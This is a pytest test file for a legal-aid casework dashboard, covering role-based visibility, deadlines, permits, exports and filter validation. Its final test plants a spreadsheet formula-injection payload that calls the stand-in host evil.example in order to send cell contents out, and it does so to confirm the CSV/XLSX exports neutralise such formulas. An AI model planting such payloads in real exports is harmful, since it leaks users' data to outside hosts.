"""The team dashboard: what each table holds, whose rows it shows, its filters and exports."""

import csv
import io
import itertools
from datetime import timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone
from django.utils.translation import gettext

from casework import dashboard as board
from casework.models import (
    Case,
    Deadline,
    DeadlineRule,
    Fine,
    Incident,
    IncidentClient,
    Reminder,
)
from clients.models import Authority, ResidencePermit
from tests.factories import (
    CaseFactory,
    ClientFactory,
    DocumentFactory,
    FineFactory,
    HearingFactory,
    PermitFactory,
    UserFactory,
    country,
)

pytestmark = pytest.mark.django_db

URL = "/dashboard/"
_keys = itertools.count()


def today():
    return timezone.localdate()


def days(n: int):
    return today() + timedelta(days=n)


def scope_for(user, **kwargs) -> board.Scope:
    start, end = board.default_period(today())
    values = {"office": None, "start": start, "end": end, "held_days": 30, **kwargs}
    return board.Scope(user=user, **values)


def cells(rows: board.Rows, column: int) -> list:
    return [row.cells[column] for row in rows.rows]


def failed_reminder(recipient, **subject) -> Reminder:
    return Reminder.objects.create(
        recipient=recipient,
        channel=Reminder.Channel.EMAIL,
        kind=Reminder.Kind.UPCOMING,
        remind_at=timezone.now() - timedelta(hours=2),
        sent_at=timezone.now() - timedelta(hours=2),
        failed_at=timezone.now() - timedelta(hours=1),
        failure_reason="SMTP 550: mailbox unavailable",
        attempts=3,
        dedupe_key=f"test-{next(_keys)}",
        **subject,
    )


def fill_office(office, lawyer, n: int) -> None:
    """`n` rows in every table of the dashboard, all in `office`."""
    authority = Authority.objects.first()
    for i in range(n):
        client = ClientFactory(office=office, last_name=f"Клиентов{i}")
        case = CaseFactory(client=client, responsible_lawyer=lawyer, opened_on=days(-40))
        deadline = Deadline.objects.create(case=case, title=f"Жалоба {i}", due_on=days(3))
        HearingFactory(case=case, starts_at=timezone.now() + timedelta(days=2))
        permit = PermitFactory(client=client, valid_until=days(10))
        PermitFactory(client=client, valid_until=days(45))
        DocumentFactory(client=client, held_by=authority, held_since=days(-40))
        failed_reminder(lawyer, deadline=deadline)
        failed_reminder(lawyer, permit=permit)
        FineFactory(case=case, status="contested", issued_on=days(-20))
        closed = CaseFactory(client=client, responsible_lawyer=lawyer, opened_on=days(-60))
        closed.close(outcome=Case.Outcome.WON, closed_on=days(-5))
        incident = Incident.objects.create(
            title=f"Рейд {i}",
            office=office,
            started_on=days(-30),
            place="Рынок",
            city="Алматы",
        )
        IncidentClient.objects.create(incident=incident, client=client)


# Access ---------------------------------------------------------------------------------


def test_anonymous_is_sent_to_login(client):
    response = client.get(URL)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_paralegal_has_no_dashboard(client, paralegal):
    client.force_login(paralegal)
    assert client.get(URL).status_code == 403
    assert "/dashboard/" not in client.get(reverse("home")).content.decode()


@pytest.mark.parametrize("persona", ["lawyer", "coordinator", "reader"])
def test_lawyers_coordinators_and_observers_open_it(client, persona, request):
    client.force_login(request.getfixturevalue(persona))
    response = client.get(URL)
    assert response.status_code == 200
    assert 'href="/dashboard/"' in response.content.decode()


def test_coordinator_sees_every_office_and_lawyer_only_their_own(
    client, case, lawyer, coordinator, outsider, other_office
):
    Deadline.objects.create(case=case, title="Апелляция здесь", due_on=days(2))
    theirs = CaseFactory(client=ClientFactory(office=other_office), responsible_lawyer=outsider)
    Deadline.objects.create(case=theirs, title="Апелляция там", due_on=days(2))

    client.force_login(coordinator)
    page = client.get(URL).content.decode()
    assert "Апелляция здесь" in page and "Апелляция там" in page

    client.force_login(lawyer)
    page = client.get(URL).content.decode()
    assert "Апелляция здесь" in page
    assert "Апелляция там" not in page
    assert theirs.reference not in page

    client.force_login(outsider)
    page = client.get(URL).content.decode()
    assert "Апелляция там" in page
    assert "Апелляция здесь" not in page


def test_lawyer_does_not_see_a_colleagues_sensitive_case(client, office, lawyer):
    colleague = UserFactory(office=office, groups=["lawyer"])
    secret = CaseFactory(
        client=ClientFactory(office=office),
        responsible_lawyer=colleague,
        sensitivity=Case.Sensitivity.SENSITIVE,
    )
    Deadline.objects.create(case=secret, title="Тайный срок", due_on=days(1))
    HearingFactory(case=secret)
    client.force_login(lawyer)
    page = client.get(URL).content.decode()
    assert "Тайный срок" not in page
    assert secret.reference not in page
    client.force_login(colleague)
    assert "Тайный срок" in client.get(URL).content.decode()


# Sections -------------------------------------------------------------------------------


def test_deadlines_are_the_overdue_and_the_next_14_days(case, lawyer):
    Deadline.objects.create(case=case, title="overdue", due_on=days(-3))
    Deadline.objects.create(case=case, title="in 14", due_on=days(14))
    Deadline.objects.create(case=case, title="in 20", due_on=days(20))
    done = Deadline.objects.create(case=case, title="done", due_on=days(1))
    done.mark_done(by=lawyer)
    rows = board.deadlines(scope_for(lawyer))
    assert cells(rows, 2) == ["overdue", "in 14"]
    assert [row.alert for row in rows.rows] == [True, False]
    assert rows.rows[0].url == reverse("casework:case_detail", args=[case.pk])


def test_page_highlights_an_overdue_deadline(client, case, lawyer):
    Deadline.objects.create(case=case, title="Просрочено", due_on=days(-1))
    client.force_login(lawyer)
    page = client.get(URL).content.decode()
    row = page[page.rindex("<tr", 0, page.index("Просрочено")) : page.index("Просрочено")]
    assert "table-danger" in row


def test_page_counts_overdue_and_this_weeks_deadlines_before_any_list(client, case, lawyer):
    for title, day in [("before", -2), ("today", 0), ("in 7", 7), ("in 8", 8)]:
        Deadline.objects.create(case=case, title=title, due_on=days(day))
    HearingFactory(case=case, starts_at=timezone.now() + timedelta(days=2))
    client.force_login(lawyer)
    page = client.get(URL, HTTP_ACCEPT_LANGUAGE="ru").content.decode()
    for count, label in [
        (1, "Просроченные сроки"),
        (2, "Сроки в ближайшие 7 дней"),
        (1, "Заседания в ближайшие 7 дней"),
        (0, "Неотправленные напоминания"),
    ]:
        assert f'<span class="summary-count">{count}</span> {label}</a>' in page
    assert 'summary-alert" href="#t-deadlines"' in page  # overdue: marked
    assert 'summary-alert" href="#t-reminders"' not in page  # none failed: not marked
    assert page.index('id="h-summary"') < page.index("<table")


def test_page_folds_each_list_that_has_rows_behind_a_control(client, case, lawyer):
    Deadline.objects.create(case=case, title="Просрочено", due_on=days(-1))
    client.force_login(lawyer)
    page = client.get(URL, HTTP_ACCEPT_LANGUAGE="ru").content.decode()
    deadlines = page[page.index('id="t-deadlines"') : page.index('id="t-hearings"')]
    assert '<details class="fold-phone">' in deadlines
    assert "Показать список" in deadlines and "Просрочено" in deadlines
    hearings = page[page.index('id="t-hearings"') : page.index('id="t-permits-30"')]
    assert "<details" not in hearings and "Ничего нет." in hearings  # nothing to unfold


def test_hearings_are_the_pending_ones_of_the_next_7_days(case, lawyer):
    soon = HearingFactory(case=case, starts_at=timezone.now() + timedelta(days=3))
    HearingFactory(case=case, starts_at=timezone.now() + timedelta(days=9))
    HearingFactory(case=case, starts_at=timezone.now() - timedelta(hours=1))
    HearingFactory(case=case, starts_at=timezone.now() + timedelta(days=1), outcome="postponed")
    rows = board.hearings(scope_for(lawyer))
    assert rows.total == 1
    assert rows.rows[0].cells[1] == soon.get_kind_display()


def test_permit_expiring_in_45_days_is_in_60_not_in_30(client_record, lawyer):
    PermitFactory(client=client_record, valid_until=days(10), number="P-10")
    PermitFactory(client=client_record, valid_until=days(45), number="P-45")
    PermitFactory(client=client_record, valid_until=days(90), number="P-90")
    PermitFactory(
        client=client_record,
        valid_until=days(20),
        number="P-refused",
        status=ResidencePermit.Status.REFUSED,
    )
    scope = scope_for(lawyer)
    assert cells(board.permits_30(scope), 1) == [10]
    assert cells(board.permits_60(scope), 1) == [45]
    assert board.permits_60(scope).rows[0].url == client_record.get_absolute_url()


def test_passport_held_40_days_is_shown_with_threshold_30_and_10_days_is_not(
    client, client_record, lawyer
):
    authority = Authority.objects.first()
    DocumentFactory(client=client_record, held_by=authority, held_since=days(-40))
    DocumentFactory(client=client_record, held_by=authority, held_since=days(-10))
    DocumentFactory(client=client_record)
    assert cells(board.passports(scope_for(lawyer, held_days=30)), 1) == [40]
    assert cells(board.passports(scope_for(lawyer, held_days=5)), 1) == [40, 10]

    client.force_login(lawyer)
    page = client.get(URL, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "documents held 30 days or longer" in page
    assert "deadline rule" in page
    page = client.get(URL, {"held_days": "7"}, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "documents held 7 days or longer" in page
    assert "as chosen in the filter" in page


def test_passport_threshold_follows_the_rule_and_falls_back_to_30_days():
    rule = DeadlineRule.objects.get(code="passport-held")
    rule.period = 21
    rule.save()
    assert board.passport_held_days() == (21, "rule")
    rule.is_active = False
    rule.save()
    assert board.passport_held_days() == (30, "default")


def test_failed_reminders_show_reason_and_attempts_for_each_subject(client, case, lawyer):
    deadline = Deadline.objects.create(case=case, title="Подать жалобу", due_on=days(2))
    hearing = HearingFactory(case=case)
    permit = PermitFactory(client=case.client)
    failed_reminder(lawyer, deadline=deadline)
    failed_reminder(lawyer, hearing=hearing)
    failed_reminder(lawyer, permit=permit)
    delivered = failed_reminder(lawyer, deadline=deadline)
    delivered.delivered_at = timezone.now()
    delivered.save()
    rows = board.failed_reminders(scope_for(lawyer))
    assert rows.total == 3
    assert {row.url for row in rows.rows} == {
        case.get_absolute_url(),
        case.client.get_absolute_url(),
    }
    assert set(cells(rows, 7)) == {3}

    client.force_login(lawyer)
    page = client.get(URL).content.decode()
    assert "SMTP 550: mailbox unavailable" in page
    assert "Подать жалобу" in page


def test_caseload_counts_open_on_hold_and_closed_in_the_period(office, lawyer):
    for status in ["open", "open", "on_hold"]:
        CaseFactory(client=ClientFactory(office=office), responsible_lawyer=lawyer, status=status)
    recent = CaseFactory(
        client=ClientFactory(office=office), responsible_lawyer=lawyer, opened_on=days(-10)
    )
    recent.close(outcome="won", closed_on=days(-3))
    old = CaseFactory(
        client=ClientFactory(office=office), responsible_lawyer=lawyer, opened_on=days(-800)
    )
    old.close(outcome="lost", closed_on=days(-700))
    CaseFactory(client=ClientFactory(office=office))
    rows = board.caseload(scope_for(lawyer))
    by_name = {row.cells[0]: row.cells[1:] for row in rows.rows}
    assert by_name[lawyer.display_name] == (2, 1, 1)
    assert by_name[gettext("No responsible lawyer")] == (1, 0, 0)


def test_cases_by_month_cover_every_month_of_the_period(office, lawyer):
    start = today().replace(day=1) - timedelta(days=40)
    start = start.replace(day=1)
    CaseFactory(client=ClientFactory(office=office), opened_on=start + timedelta(days=2))
    closed = CaseFactory(client=ClientFactory(office=office), opened_on=start)
    closed.close(outcome="won", closed_on=today())
    rows = board.monthly(scope_for(lawyer, start=start, end=today()))
    assert [row.cells for row in rows.rows] == [
        (start, 2, 0),
        ((start + timedelta(days=32)).replace(day=1), 0, 0),
        (today().replace(day=1), 0, 1),
    ]


def test_outcomes_count_cases_closed_in_the_period(office, lawyer):
    for outcome in ["won", "won", "lost"]:
        case = CaseFactory(client=ClientFactory(office=office), opened_on=days(-10))
        case.close(outcome=outcome, closed_on=days(-1))
    rows = board.outcomes(scope_for(lawyer))
    assert [row.cells for row in rows.rows] == [
        (str(Case.Outcome.WON.label), 2),
        (str(Case.Outcome.LOST.label), 1),
    ]


def test_fines_contested_and_annulled_with_amounts_per_currency(case, lawyer):
    FineFactory(case=case, status="contested", amount=Decimal("1000"), issued_on=days(-3))
    FineFactory(case=case, status="contested", amount=Decimal("500.50"), issued_on=days(-3))
    FineFactory(
        case=case, status="annulled", amount=Decimal("20"), currency="USD", issued_on=days(-3)
    )
    FineFactory(case=case, status="issued", amount=Decimal("7"), issued_on=days(-3))
    FineFactory(case=case, status="contested", amount=Decimal("9"), issued_on=days(-900))
    rows = board.fines(scope_for(lawyer))
    assert [row.cells for row in rows.rows] == [
        (str(Fine.Status.ANNULLED.label), "USD", 1, Decimal("20.00")),
        (str(Fine.Status.CONTESTED.label), "KZT", 2, Decimal("1500.50")),
    ]


def test_incidents_and_their_clients_by_citizenship(office, lawyer, other_office):
    raid = Incident.objects.create(
        title="Рейд на рынке", office=office, started_on=days(-5), place="Рынок", city="Алматы"
    )
    for code in ["UZ", "UZ", "TJ"]:
        client = ClientFactory(office=office, nationality=country(code))
        IncidentClient.objects.create(incident=raid, client=client, expelled=code == "TJ")
    elsewhere = Incident.objects.create(
        title="Рейд в Астане", office=other_office, started_on=days(-5), place="Р", city="Астана"
    )
    IncidentClient.objects.create(incident=elsewhere, client=ClientFactory(office=other_office))
    scope = scope_for(lawyer)
    incidents = board.incidents(scope)
    assert cells(incidents, 1) == ["Рейд на рынке"]
    assert cells(incidents, 6) == [3]
    by_country = {row.cells[0]: row.cells[1:] for row in board.incident_nationalities(scope).rows}
    assert by_country == {
        country("UZ").name: (2, 2, 0, 0, 0, 0, 0, 0),
        country("TJ").name: (1, 1, 1, 0, 0, 0, 0, 0),
    }


def test_charts_carry_their_numbers_as_json_and_a_table(client, case, lawyer):
    case.close(outcome="won", closed_on=today())
    client.force_login(lawyer)
    page = client.get(URL).content.decode()
    assert 'id="chart-outcomes" type="application/json"' in page
    assert 'data-chart="chart-outcomes"' in page
    assert "js/dashboard.js" in page
    assert "<script>" not in page


# Filters --------------------------------------------------------------------------------


def test_coordinator_narrows_to_one_office(client, case, coordinator, other_office):
    theirs = CaseFactory(client=ClientFactory(office=other_office))
    Deadline.objects.create(case=case, title="Здесь", due_on=days(1))
    Deadline.objects.create(case=theirs, title="Там", due_on=days(1))
    client.force_login(coordinator)
    page = client.get(URL, {"office": other_office.pk}).content.decode()
    assert "Там" in page and "Здесь" not in page


def test_period_filter_limits_the_figures(client, case, lawyer):
    case.close(outcome="won", closed_on=today())
    client.force_login(lawyer)
    last_year = {"from": days(-400).isoformat(), "to": days(-300).isoformat()}
    rows = board.outcomes(scope_for(lawyer, start=days(-400), end=days(-300)))
    assert rows.total == 0
    page = client.get(URL, last_year, HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert days(-400).strftime("%m/%d/%Y") in page  # English keeps its own order
    assert "Won" not in page


def test_lawyer_cannot_pick_another_office(client, case, lawyer, other_office):
    Deadline.objects.create(case=case, title="Свой срок", due_on=days(1))
    client.force_login(lawyer)
    response = client.get(URL, {"office": other_office.pk}, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400
    page = response.content.decode()
    assert "Select a valid choice" in page
    assert "Свой срок" not in page


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"from": "2026-13-45"}, "Enter a valid date."),
        ({"from": "2026-05-01", "to": "2026-01-01"}, "The period must start before it ends."),
        ({"from": "1990-01-01", "to": "2026-01-01"}, "Choose a period of at most ten years."),
        ({"held_days": "many"}, "Enter a whole number."),
        ({"held_days": "0"}, "Ensure this value is greater than or equal to 1."),
        ({"office": "x"}, "Select a valid choice."),
    ],
)
def test_bad_filter_input_gives_a_message_not_a_500(client, lawyer, params, message):
    client.force_login(lawyer)
    response = client.get(URL, params, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400
    page = response.content.decode()
    assert message in page
    for name, value in params.items():
        if name != "office":  # a select keeps the choice, but shows only valid options
            assert f'value="{value}"' in page


def test_bad_filter_message_is_in_russian_for_a_russian_user(client, lawyer):
    client.force_login(lawyer)
    response = client.get(URL, {"from": "2026-05-01", "to": "2026-01-01"})
    assert "Начало периода должно быть раньше его конца." in response.content.decode()


# Query counts ---------------------------------------------------------------------------


def test_dashboard_query_count_does_not_grow_with_rows(
    client, office, lawyer, coordinator, django_assert_num_queries
):
    fill_office(office, lawyer, 1)
    client.force_login(coordinator)
    with django_assert_num_queries(21) as one:
        page = client.get(URL).content.decode()
    assert "Рейд 0" in page and "Клиентов0" in page
    fill_office(office, lawyer, 20)
    with django_assert_num_queries(len(one.captured_queries)):
        response = client.get(URL)
    sections = response.context["sections"]
    assert all(section["rows"].total > 0 for section in sections)
    totals = {s["table"].name: s["rows"].total for s in sections}
    assert totals["deadlines"] == totals["permits-60"] == totals["incidents"] == 21
    assert totals["reminders"] == 42


def test_lists_are_bounded_and_say_how_many_there_are(client, case, lawyer):
    for i in range(board.PAGE_ROWS + 3):
        Deadline.objects.create(case=case, title=f"Срок {i}", due_on=days(1))
    client.force_login(lawyer)
    response = client.get(URL, HTTP_ACCEPT_LANGUAGE="en")
    rows = response.context["sections"][0]["rows"]
    assert (len(rows.rows), rows.total) == (board.PAGE_ROWS, board.PAGE_ROWS + 3)
    assert "The first 50 of 53 are shown" in response.content.decode()


# Exports --------------------------------------------------------------------------------


def export_url(table: str, fmt: str) -> str:
    return reverse("casework:dashboard_export", args=[table, fmt])


def test_csv_export_has_every_row_a_bom_and_russian_headers(client, case, lawyer):
    for i in range(board.PAGE_ROWS + 5):
        Deadline.objects.create(case=case, title=f"Срок {i}", due_on=days(1))
    client.force_login(lawyer)
    response = client.get(export_url("deadlines", "csv"), HTTP_ACCEPT_LANGUAGE="ru")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="deadlines-')
    assert "no-store" in response["Cache-Control"]
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    table = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert table[0][:3] == [
        "Срок до",
        "Осталось дней (меньше нуля — просрочено)",
        "Что нужно сделать",
    ]
    assert len(table) == 1 + board.PAGE_ROWS + 5
    assert table[1][3] == case.reference
    assert table[1][4] == case.client.full_name


def test_xlsx_export_opens_and_holds_the_rows(client, case, lawyer):
    FineFactory(case=case, status="contested", amount=Decimal("1500"), issued_on=days(-2))
    client.force_login(lawyer)
    response = client.get(export_url("fines", "xlsx"), {"from": days(-30).isoformat()})
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    values = list(book.active.values)
    assert values[0] == ("Статус", "Валюта", "Штрафы", "Сумма")
    assert values[1] == ("Обжалуется", "KZT", 1, 1500)


def test_xlsx_export_keeps_dates_as_dates(client, case, lawyer):
    Deadline.objects.create(case=case, title="Срок", due_on=days(1))
    client.force_login(lawyer)
    response = client.get(export_url("deadlines", "xlsx"), HTTP_ACCEPT_LANGUAGE="en")
    rows = list(openpyxl.load_workbook(io.BytesIO(response.content)).active.values)
    assert rows[0][0] == "Due on"
    assert rows[1][0].date() == days(1)


def test_export_follows_the_filters_and_the_users_scope(
    client, case, lawyer, coordinator, other_office
):
    theirs = CaseFactory(client=ClientFactory(office=other_office))
    Deadline.objects.create(case=case, title="Здесь", due_on=days(1))
    Deadline.objects.create(case=theirs, title="Там", due_on=days(1))
    client.force_login(lawyer)
    body = client.get(export_url("deadlines", "csv")).content.decode()
    assert "Здесь" in body and "Там" not in body
    client.force_login(coordinator)
    body = client.get(export_url("deadlines", "csv"), {"office": other_office.pk}).content
    assert "Там" in body.decode() and "Здесь" not in body.decode()


def test_export_with_bad_filters_says_why(client, lawyer):
    client.force_login(lawyer)
    response = client.get(export_url("outcomes", "csv"), {"to": "yesterday"})
    assert response.status_code == 400
    assert "Введите правильную дату." in response.content.decode()


@pytest.mark.parametrize(("table", "fmt"), [("nonsense", "csv"), ("deadlines", "pdf")])
def test_unknown_table_or_format_is_404(client, lawyer, table, fmt):
    client.force_login(lawyer)
    assert client.get(export_url(table, fmt)).status_code == 404


@pytest.mark.parametrize("table", list(board.TABLES))
def test_every_table_exports_in_both_formats(client, office, lawyer, table):
    fill_office(office, lawyer, 1)
    client.force_login(lawyer)
    for fmt in ["csv", "xlsx"]:
        response = client.get(export_url(table, fmt))
        assert response.status_code == 200
    rows = list(openpyxl.load_workbook(io.BytesIO(response.content)).active.values)
    assert len(rows) >= 2
    assert list(rows[0]) == board.TABLES[table].headers(export=True)


def test_paralegal_and_anonymous_cannot_export(client, paralegal):
    assert client.get(export_url("deadlines", "csv")).status_code == 302
    client.force_login(paralegal)
    assert client.get(export_url("deadlines", "csv")).status_code == 403


# Home -----------------------------------------------------------------------------------


def test_home_shows_only_my_deadlines_and_hearings(client, case, office, lawyer):
    colleague = UserFactory(office=office, groups=["lawyer"])
    theirs = CaseFactory(client=ClientFactory(office=office), responsible_lawyer=colleague)
    Deadline.objects.create(case=case, title="Мой срок", due_on=days(-2))
    Deadline.objects.create(case=theirs, title="Чужой срок", due_on=days(2))
    HearingFactory(case=theirs)
    client.force_login(lawyer)
    page = client.get(reverse("home")).content.decode()
    assert "Мой срок" in page
    assert "Чужой срок" not in page
    assert theirs.reference not in page
    mine = page[page.rindex("<li", 0, page.index("Мой срок")) : page.index("Мой срок")]
    assert "list-group-item-danger" in mine
    assert reverse("casework:dashboard") in page


def test_paralegal_home_shows_deadlines_of_cases_they_assist(client, case, paralegal):
    Deadline.objects.create(case=case, title="Срок помощника", due_on=days(1))
    client.force_login(paralegal)
    assert "Срок помощника" in client.get(reverse("home")).content.decode()


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_exported_text_that_looks_like_a_formula_stays_text(client, case, lawyer, start):
    """A deadline titled like a formula is exported as text in both formats: in CSV behind
    an apostrophe, in XLSX as a text cell, never a formula."""
    payload = f'{start}HYPERLINK("http://evil.example/?x="&A1,"Открыть")'
    Deadline.objects.create(case=case, title=payload, due_on=days(1))
    Deadline.objects.create(case=case, title="обычный срок", due_on=days(2))
    client.force_login(lawyer)
    body = client.get(export_url("deadlines", "csv")).content.decode("utf-8").lstrip("\ufeff")
    titles = [row[2] for row in list(csv.reader(io.StringIO(body)))[1:]]
    assert titles == [f"'{payload}", "обычный срок"]
    response = client.get(export_url("deadlines", "xlsx"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == [f"'{payload}", "обычный срок"]
    assert all(c.data_type == "s" for c in cells)
    # Numbers stay numbers: the days-left column of a due date in one day.
    assert [row[1].value for row in sheet.iter_rows(min_row=2)][0] == 1
